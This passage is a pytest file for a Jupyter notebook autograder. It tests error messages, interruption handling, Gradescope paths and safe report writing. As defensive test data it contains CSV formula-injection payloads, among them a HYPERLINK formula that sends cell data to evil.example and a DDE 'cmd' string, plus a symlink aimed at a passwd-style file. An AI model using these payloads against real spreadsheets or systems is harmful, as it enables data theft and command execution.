    """Its metadata says 99_mystery: the grader can tell which assignment it is, there is no bundle for it. It used to
    say it could not tell, and to rename the file (no help where the student is a folder's name)."""
    nb = json.loads(notebook("x = 1"))
    nb["metadata"]["otter"] = {"assignment_name": "99_mystery"}
    (tmp_path / "in" / "dave").mkdir(parents=True)
    (tmp_path / "in" / "dave" / "sub.ipynb").write_text(json.dumps(nb))
    code, printed, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 0, err
    (row,) = json.loads((tmp_path / "out" / "grades.json").read_text())["results"]
    assert row["status"] == "error" and row["reason"].startswith(
        "its metadata names the assignment 99_mystery, which has no bundle (the bundles are 00_start_here, "), row


def test_an_archive_in_a_students_folder_says_to_unzip_it_there(tmp_path, assigned, stub_grading, capsys):
    (tmp_path / "in" / "bob").mkdir(parents=True)
    (tmp_path / "in" / "bob" / "work.zip").write_bytes(b"PK")
    (tmp_path / "in" / "carol.zip").write_bytes(b"PK")
    code, _, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 0, err
    reasons = {r["student"]: r["reason"] for r in json.loads((tmp_path / "out" / "grades.json").read_text())["results"]}
    assert "unzip it into the folder it is in (bob/) and grade again" in reasons["bob"], reasons
    assert "unzip it into the submissions folder" in reasons["carol"], reasons


def test_an_empty_folder_is_an_error_that_says_what_to_pass(tmp_path, assigned, capsys):
    (tmp_path / "in" / ".ipynb_checkpoints").mkdir(parents=True)
    code, _, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 2 and "no files in" in err and "pass the folder that holds the submitted notebooks" in err, err
    assert not (tmp_path / "out" / "grades.csv").exists()


def test_a_report_that_cannot_be_written_keeps_the_rows_and_says_so(tmp_path, assigned, stub_grading, capsys):
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    (folder / f"alice_{KL}.ipynb").write_text(notebook("x = 1"))
    (out / "grades.csv").mkdir(parents=True)  # where the CSV goes: a full disk reaches the same path
    code, _, err = run_cli(folder, out, assigned, capsys)
    assert code == 2 and "could not write the reports (grades.csv, grades.json" in err, err
    assert "1 notebook(s) graded" in err, err
    assert "Traceback" not in err and not (out / "grades.json").exists(), "one report without the other"
    (out / "grades.csv").rmdir()
    code, printed, err = run_cli(folder, out, assigned, capsys)
    assert code == 0 and stub_grading == [f"alice_{KL}.ipynb"], "the rerun graded alice again"
    assert "1 graded before" in printed

    (tmp_path / "skipped").mkdir()  # nothing graded (a file that is not a notebook): no journal to point at
    (tmp_path / "skipped" / "bob.py").write_text("x = 1\n")
    (tmp_path / "out2" / "grades.csv").mkdir(parents=True)
    code, _, err = run_cli(tmp_path / "skipped", tmp_path / "out2", assigned, capsys)
    assert code == 2 and "no notebook was graded, so none is kept: fix that and run the same command again" in err, err
    assert "grades.partial.jsonl" not in err, err


@NEEDS_SANDBOX
def test_ctrl_c_ends_the_running_notebooks_keeps_the_graded_and_says_how_to_go_on(tmp_path, assigned, capsys,
                                                                                    monkeypatch):
    folder, out = tmp_path / "in", tmp_path / "out"
    folder.mkdir()
    (folder / f"ann_{KL}.ipynb").write_text(notebook("x = 1"))
    (folder / f"ben_{KL}.ipynb").write_text(notebook("import time\ntime.sleep(300)"))
    journal = out / "grades.partial.jsonl"

    def interrupt_once_ann_is_graded():
        deadline = time.monotonic() + 120
        while time.monotonic() < deadline and not (journal.is_file() and journal.read_text().count("\n") == 1):
            time.sleep(0.1)
        time.sleep(1)  # ben's notebook is running
        os.kill(os.getpid(), signal.SIGINT)  # what Ctrl-C sends

    threading.Thread(target=interrupt_once_ann_is_graded, daemon=True).start()
    start = time.monotonic()
    code = cli(["grade", str(folder), "--out", str(out), "--autograder-dir", str(assigned / "autograder"),
                "--jobs", "2"])
    err = capsys.readouterr().err
    assert code == 130 and time.monotonic() - start < 100, "it waited for ben's notebook to end on its own"
    assert err.strip().splitlines() == [
        f"dpo-teach grade: interrupted; the 1 notebook(s) graded so far are kept in {journal}: run the same command "
        "again and it grades only the rest"], err
    kept = [json.loads(line)["row"] for line in journal.read_text().splitlines()]
    assert [(r["student"], r["status"]) for r in kept] == [("ann", "graded")], "ben's ended run was kept as his"

    (folder / f"ann_{KL}.ipynb").unlink()  # a batch stopped before its first row: no journal to point at
    started, run_notebook = threading.Event(), grade_module.run_notebook
    returned, signalling = threading.Event(), threading.Lock()
    monkeypatch.setattr(grade_module, "run_notebook", lambda *a, **k: started.set() or run_notebook(*a, **k))

    def interrupt_once_ben_runs():  # never after `grade` returned: the signal would stop pytest instead
        if started.wait(120) and not returned.wait(1):
            with signalling:
                if not returned.is_set():
                    os.kill(os.getpid(), signal.SIGINT)

    threading.Thread(target=interrupt_once_ben_runs, daemon=True).start()
    try:
        code = cli(["grade", str(folder), "--out", str(tmp_path / "early"),
                    "--autograder-dir", str(assigned / "autograder")])
    finally:
        with signalling:
            returned.set()
    err = capsys.readouterr().err
    assert code == 130 and err.strip().splitlines() == ["dpo-teach grade: interrupted; no notebook was graded, so none "
                                                        "is kept: run the same command again"], err


def test_ctrl_c_before_the_batch_names_a_journal_only_when_there_is_one(tmp_path, assigned, capsys, monkeypatch):
    """A Ctrl-C while the files are read, before any row: the journal is named only if an earlier run left one."""
    from dpo_teach import grading

    def interrupted(*args, **kwargs):
        raise KeyboardInterrupt

    monkeypatch.setattr(grading, "grade", interrupted)
    (tmp_path / "in").mkdir()
    (tmp_path / "in" / f"ann_{KL}.ipynb").write_text(notebook("x = 1"))
    code, _, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 130 and err.strip() == ("dpo-teach grade: interrupted before any notebook was graded: run the "
                                           "same command again"), err
    (tmp_path / "out").mkdir(exist_ok=True)
    (tmp_path / "out" / "grades.partial.jsonl").write_text("")  # an earlier run's journal
    code, _, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 130 and "it grades only what" in err and "grades.partial.jsonl lacks" in err, err


def test_gradescope_names_the_notebook_it_graded_of_several(tmp_path, assigned, monkeypatch):
    """Two notebooks uploaded in the same instant: the copy is the later one, and the output says which was graded."""
    from test_gradescope import _source

    source, submission = _source(assigned, tmp_path), tmp_path / "submission"
    submission.mkdir()
    for name in (f"{KL}.ipynb", f"{KL}-Copy1.ipynb"):
        (submission / name).write_text(notebook("x = 1"))
        os.utime(submission / name, (1_700_000_000, 1_700_000_000))
    graded = []
    monkeypatch.setattr(gradescope, "_graded_row", lambda src, nb, a: (graded.append(nb.name) or {
        **empty_row("s", nb, a, "graded"), "score": 0.0}, None))
    report = gradescope.run(source, submission, tmp_path / "results.json")
    assert graded == [f"{KL}-Copy1.ipynb"]
    assert f"Graded {KL}-Copy1.ipynb, the latest of the 2 notebooks you submitted." in report["output"]


def test_gradescope_without_its_options_says_what_to_pass(capsys):
    from dpo_teach.grading.__main__ import main

    for args in (["gradescope"], ["gradescope", "--source", "x"]):
        assert main(args) == 2
        err = capsys.readouterr().err
        assert "pass --out DIR" in err and "--source, --submission and --results together" in err, err


@pytest.mark.parametrize("args, message", [
    (["--out", "{tmp}/a_file"], "is a file, expected a folder; pass another path"),
    (["--source", "{tmp}/bundle", "--submission", "{tmp}/submission", "--results", "{tmp}/r.json"],
     "expected one assignment's manifest and bundle in "),
    (["--source", "{source}", "--submission", "{tmp}/a_file", "--results", "{tmp}/r.json"],
     "not a folder; pass the folder that holds the submitted notebook"),
    (["--source", "{source}", "--submission", "{tmp}/submission", "--results", "{tmp}/submission"],
     "is a folder; pass the path of the results.json to write"),
], ids=["out is a file", "a manifest without its bundle", "submission is a file", "results is a folder"])
def test_gradescope_paths_that_cannot_be_used_are_one_line(tmp_path, assigned, capsys, args, message):
    """They were tracebacks: an unpacking ValueError, a FileExistsError, an IsADirectoryError after grading."""
    from test_gradescope import _source

    from dpo_teach.grading.__main__ import main

    (tmp_path / "a_file").write_text("x")
    (tmp_path / "bundle" / "autograder").mkdir(parents=True)
    (tmp_path / "bundle" / "autograder" / f"{KL}.json").write_text("{}")  # a manifest without its bundle
    (tmp_path / "submission").mkdir()
    source = _source(assigned, tmp_path)
    assert main(["gradescope", *(arg.format(tmp=tmp_path, source=source) for arg in args)]) == 2
    assert message in one_line_error(capsys)


@NEEDS_SANDBOX
def test_a_graded_notebook_checks_its_claims_as_on_a_students_machine(tmp_path, assigned, monkeypatch):
    """The grader's own DPO_TEACH_STRICT, DPO_TEACH_CLAIMS and DPO_TEACH_CLAIMS_LOG (a course's CI settings) reached
    the notebooks it graded: a claim that did not hold, or every claim (CLAIMS=record: the log, outside the sandbox,
    cannot be opened), was a cell error in the student's feedback."""
    monkeypatch.setenv("DPO_TEACH_STRICT", "1")
    monkeypatch.setenv("DPO_TEACH_CLAIMS", "record")
    monkeypatch.setenv("DPO_TEACH_CLAIMS_LOG", str(tmp_path / "claims.jsonl"))
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / f"ann_{KL}.ipynb").write_text(notebook("from dpo_teach import claims\nclaims.check(False, 'a claim')"))
    report = grade_module.grade(folder, tmp_path / "out", autograder=assigned / "autograder", log=lambda m: None)
    (row,) = report["results"]
    assert row["status"] == "graded" and not row["errors"], row


@pytest.mark.parametrize("solutions, message", [
    ("course/masters", "is or lies in course/masters, the folder of the masters, which the answer keys would replace"),
    ("course/masters/keys", "is or lies in course/masters"),
    ("notebooks", "the folder of the student notebooks, which the answer keys would replace"),
    ("course/autograder", "the folder of the autograder bundles"),
    ("README.md", "--solutions README.md: is a file, expected a directory"),
    ("README.md/keys", "README.md is a file, so nothing can be created under it"),
    ("/proc/dpo-teach-keys", "lies in /proc"),
])
def test_answer_keys_are_never_written_over_the_course(monkeypatch, capsys, solutions, message):
    """`make assign SOLUTIONS=course/masters` replaced every master by its answer key (the hidden tests and otter's
    markers gone; the next `make assign` crashed on them); SOLUTIONS=notebooks put the answers in the student
    notebooks; a file was a traceback after the first master was assigned. Each is refused before any master."""
    from dpo_teach.grading import __main__ as grading_main

    monkeypatch.chdir(grading_main.ROOT)  # as `make assign` runs
    monkeypatch.setattr(grading_main, "assign", lambda **kwargs: pytest.fail("a master was assigned"))
    assert grading_main.main(["assign", "--solutions", solutions]) == 2
    assert message in one_line_error(capsys)


@pytest.mark.parametrize("cache, message", [
    ("relative/cache", "DPO_TEACH_CACHE=relative/cache is a relative path"),
    ("{tmp}/a_file", "π_ref cannot be saved in {tmp}/a_file ({tmp}/a_file is a file, not a folder); point "
                     "$DPO_TEACH_CACHE at a folder you can write to"),
])
def test_gradescope_bundles_say_a_cache_they_cannot_use_before_any_work(tmp_path, monkeypatch, capsys, cache, message):
    """A relative cache was CacheError's traceback; a file, NotADirectoryError's, after the wheel and π_ref's build."""
    from dpo_teach.grading.__main__ import main

    (tmp_path / "a_file").write_text("x")
    monkeypatch.setenv("DPO_TEACH_CACHE", cache.format(tmp=tmp_path))
    monkeypatch.setattr(gradescope, "_wheel", lambda folder: pytest.fail("the wheel was built"))
    assert main(["gradescope", "--out", str(tmp_path / "bundles")]) == 2
    assert message.format(tmp=tmp_path) in one_line_error(capsys)
    assert not (tmp_path / "bundles").exists()


@NEEDS_SANDBOX
def test_what_a_notebook_prints_or_raises_cannot_stop_the_report(tmp_path, assigned):
    """A lone surrogate in an error message (``chr(0xdce7)``) and bytes that are not UTF-8 on stderr: the rows say
    what happened, with escapes, and grades.csv and grades.json are written (before: every rerun failed to write
    the class's report)."""
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / f"ann_{KL}.ipynb").write_text(notebook("raise ValueError('bad ' + chr(0xdce7))"))
    (folder / f"ben_{KL}.ipynb").write_text(notebook("import os\nos.write(2, b'\\xff\\xfe oops\\n')\nos._exit(3)"))
    report = grade_module.grade(folder, tmp_path / "out", autograder=assigned / "autograder", log=lambda m: None)
    rows = {r["student"]: r for r in report["results"]}
    assert "bad \\udce7" in rows["ann"]["errors"][0], rows["ann"]["errors"]
    assert "ended while running cell 0: \\xff\\xfe oops" in rows["ben"]["reason"], rows["ben"]["reason"]
    assert json.loads((tmp_path / "out" / "grades.json").read_text(encoding="utf-8"))["results"]
    assert "bad \\udce7" in (tmp_path / "out" / "grades.csv").read_text(encoding="utf-8")


def test_otter_metadata_of_the_wrong_type_is_read_from_the_file_name(tmp_path):
    nb = nbformat.v4.new_notebook(metadata={"otter": "x"})
    assert submissions.detect_assignment(tmp_path / f"ann_{KL}.ipynb", nb, {KL: {}}) == KL
    nb.metadata["otter"] = {"assignment_name": ["a", "list"]}
    assert submissions.detect_assignment(tmp_path / "ann.ipynb", nb, {KL: {}}) is None


@NEEDS_SANDBOX
def test_a_notebook_that_starts_while_the_batch_is_interrupted_is_ended_too():
    """Ctrl-C: ``end_running`` ends the notebooks running, and one whose process starts a moment later (its thread
    was past the check, reading the file) is ended as it starts, not left to run out its time limit."""
    from dpo_teach.grading import judge

    text = notebook("import time\ntime.sleep(300)")
    judge.end_running()
    try:
        start = time.monotonic()
        row = judge.run_notebook(text, "homework.ipynb", {}, 300, 300, dict(os.environ), True, [])
        assert time.monotonic() - start < 60 and row["status"] in ("error", "crashed"), row
        assert "the notebook's process ended while" in row["reason"], "it ended for another reason"
    finally:
        judge.allow_running()
    row = judge.run_notebook(notebook("x = 1"), "homework.ipynb", {}, 60, 60, dict(os.environ), True, [])
    assert row["status"] == "graded", row["reason"]


def test_a_symbolic_link_handed_in_is_skipped_without_quoting_what_it_names(tmp_path, assigned, stub_grading, capsys):
    """A link named like a notebook (``eve_01_kl_objective.ipynb -> /etc/passwd``) was read, and the parse error
    quoted the file it names into the row's reason; now it is skipped, saying what to do. A link named as a later
    copy (``(2)``) of a student's real notebook does not supersede it."""
    (tmp_path / "in").mkdir()
    secret = tmp_path / "secret.txt"
    secret.write_text("root:x:0:0:root:/root:/bin/bash")
    (tmp_path / "in" / f"eve_{KL}.ipynb").symlink_to(secret)
    (tmp_path / "in" / f"bob_{KL}.ipynb").write_text(notebook("x = 1"))
    (tmp_path / "other.ipynb").write_text(notebook("x = 2"))
    (tmp_path / "in" / f"bob_{KL} (2).ipynb").symlink_to(tmp_path / "other.ipynb")
    # a link to nothing, and two links to each other: neither was listed, and the students had no row at all
    (tmp_path / "in" / f"judy_{KL}.ipynb").symlink_to(tmp_path / "gone.ipynb")
    (tmp_path / "in" / f"lp_{KL}.ipynb").symlink_to(tmp_path / "in" / f"lq_{KL}.ipynb")
    (tmp_path / "in" / f"lq_{KL}.ipynb").symlink_to(tmp_path / "in" / f"lp_{KL}.ipynb")
    code, _, err = run_cli(tmp_path / "in", tmp_path / "out", assigned, capsys)
    assert code == 0, err
    rows = {Path(r["file"]).name: r for r in json.loads((tmp_path / "out" / "grades.json").read_text())["results"]}
    for link in (f"eve_{KL}.ipynb", f"bob_{KL} (2).ipynb", f"judy_{KL}.ipynb", f"lp_{KL}.ipynb", f"lq_{KL}.ipynb"):
        assert rows[link]["status"] == "skipped" and "is a symbolic link, not a file handed in" in rows[link]["reason"]
    assert "root:" not in (tmp_path / "out" / "grades.json").read_text() + (tmp_path / "out" / "grades.csv").read_text()
    assert stub_grading == [f"bob_{KL}.ipynb"] and rows[f"bob_{KL}.ipynb"]["status"] == "graded"


def test_gradescope_grades_no_symbolic_link(tmp_path, assigned, monkeypatch):
    from test_gradescope import _source

    source, submission = _source(assigned, tmp_path), tmp_path / "submission"
    submission.mkdir()
    (tmp_path / "secret.txt").write_text("root:x:0:0")
    (submission / f"{KL}.ipynb").symlink_to(tmp_path / "secret.txt")
    monkeypatch.setattr(gradescope, "_graded_row", lambda *args: pytest.fail("a link was graded"))
    report = gradescope.run(source, submission, tmp_path / "results.json")
    assert report["score"] == 0 and "No .ipynb file was submitted" in report["output"]


def test_a_name_that_starts_like_a_formula_is_written_as_text(tmp_path):
    """A student names their file (or a folder) `=HYPERLINK(...)` or `-2+3+cmd|' calc'!A0`: a spreadsheet opening
    grades.csv would run it. Such a cell gets a leading apostrophe; grades.json keeps the name as it was."""
    import csv

    from dpo_teach.grading.reports import empty_row, write_reports

    names = ['=HYPERLINK("https://evil.example?"&B2;"open")', "-2+3+cmd|' calc'!A0", "@SUM(1)", "+1", "ann"]
    rows = [empty_row(name, tmp_path / f"{name}_01_kl_objective.ipynb", None, "error", "cannot tell") for name in names]
    write_reports({"assignments": {}, "results": rows, "students": {}}, tmp_path)
    with open(tmp_path / "grades.csv", newline="", encoding="utf-8") as f:
        written = list(csv.DictReader(f))
    assert [r["student"] for r in written] == ["'" + n for n in names[:4]] + ["ann"]
    assert all(r["file"].startswith(str(tmp_path)) for r in written)  # a path: it starts with no formula
    assert [r["student"] for r in json.loads((tmp_path / "grades.json").read_text())["results"]] == names
